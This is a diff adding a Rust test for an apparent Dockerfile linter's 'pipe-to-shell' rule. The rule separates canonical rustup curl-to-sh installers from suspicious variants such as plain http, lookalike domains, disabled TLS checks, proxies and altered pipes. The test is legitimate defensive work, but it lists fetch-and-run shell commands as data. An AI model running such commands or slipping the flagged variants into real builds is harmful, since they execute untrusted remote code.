@@ -346,3 +346,26 @@ fn messages_count_what_is_installed() {
     assert_eq!(of("RUN apt-get install $X"), ["`apt-get` installs packages"]);
     assert_eq!(of("RUN npm install"), ["`npm` installs packages"]);
 }
+
+#[test]
+fn an_installer_of_a_vendor_comes_from_the_vendor_alone() {
+    assert_told_apart(
+        "pipe-to-shell",
+        &[
+            "RUN curl https://sh.rustup.rs:444 | sh",
+            "RUN curl http://sh.rustup.rs | sh",
+            "RUN curl https://me@sh.rustup.rs | sh",
+            "RUN curl https://sh.rustup.rs.example.invalid | sh",
+            "RUN curl -k https://sh.rustup.rs | sh",
+            "RUN curl --proxy x https://sh.rustup.rs | sh",
+            "RUN https_proxy=x curl https://sh.rustup.rs | sh",
+            "RUN curl https://sh.rustup.rs | sed s/a/b/ | sh",
+        ],
+        &[
+            "RUN curl https://sh.rustup.rs | sh",
+            "RUN curl https://sh.rustup.rs:443 | sh",
+            "RUN curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
+            "RUN curl https://sh.rustup.rs | sudo -E sh",
+        ],
+    );
+}
